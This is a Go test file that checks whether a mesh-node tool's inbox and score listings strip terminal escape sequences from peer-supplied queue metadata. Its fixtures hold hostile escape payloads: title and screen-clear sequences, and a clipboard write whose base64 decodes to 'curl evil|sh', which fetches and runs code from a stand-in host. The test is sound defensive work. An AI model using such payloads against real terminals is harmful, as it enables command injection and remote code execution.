package main

import (
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/meshnode/meshnode/internal/manifest"
	"github.com/meshnode/meshnode/internal/queue"
)

// Escape sequences a peer could put in a type cell or a title (issue 18,
// item 6): set the window title, clear the screen, write the clipboard,
// and a C1 CSI.
const (
	oscTitle     = "\x1b]0;pwned\x07"
	csiClear     = "\x1b[2J"
	oscClipboard = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
	c1CSI        = "\u009b2J"
)

// hostileItems are queue items holding escapes in every field a peer
// supplies, as a queue written before metadata was cleaned where it is
// parsed, or by another program, may.
func hostileItems() []queue.Item {
	return []queue.Item{{
		ID: "eeeeeeeeeeee", Hash: manifest.Hash("sha256:" + strings.Repeat("e", 64)),
		From: "ev" + oscTitle + "il", FromURL: "https://evil.example/",
		TraceURL: "https://evil.example/traces/x.md" + csiClear, Type: "capability" + oscClipboard,
		Title: "Title" + csiClear + c1CSI + oscTitle, Seq: 1, QueuedAt: inboxNow.Add(-time.Hour),
	}}
}

func assertNoEscapes(t *testing.T, what, out string) {
	t.Helper()
	if strings.ContainsAny(out, "\x1b\x07\x00\x7f") || strings.ContainsFunc(out, terminalControl) {
		t.Errorf("%s prints a terminal escape:\n%q", what, out)
	}
	if !strings.Contains(out, "\uFFFD") {
		t.Errorf("%s does not show where the escape was:\n%q", what, out)
	}
}

// terminalControl reports a C1 control (U+009B is CSI to a terminal that
// reads 8-bit controls) or a bidirectional control, which reorders what a
// terminal shows around it: peertext.Clean replaces both.
func terminalControl(r rune) bool {
	return r >= 0x80 && r <= 0x9f || r == '\u061c' || r == '\u200e' || r == '\u200f' || r >= '\u202a' && r <= '\u202e' || r >= '\u2066' && r <= '\u2069'
}

func TestInboxAndScorePrintNoTerminalEscapes(t *testing.T) {
	dir := minimalNode(t)
	q := queue.Open(filepath.Join(dir, "mesh-state", "queue.json"))
	if _, err := q.Enqueue(hostileItems()...); err != nil {
		t.Fatal(err)
	}
	out, err := runCmd(t, "inbox", "--dir", dir, "--now", inboxNow.Format(time.RFC3339))
	if err != nil {
		t.Fatal(err)
	}
	assertNoEscapes(t, "inbox", out)

	var b strings.Builder
	printWaiting(&b, hostileItems(), "no suggestion")
	assertNoEscapes(t, "score", b.String())
}
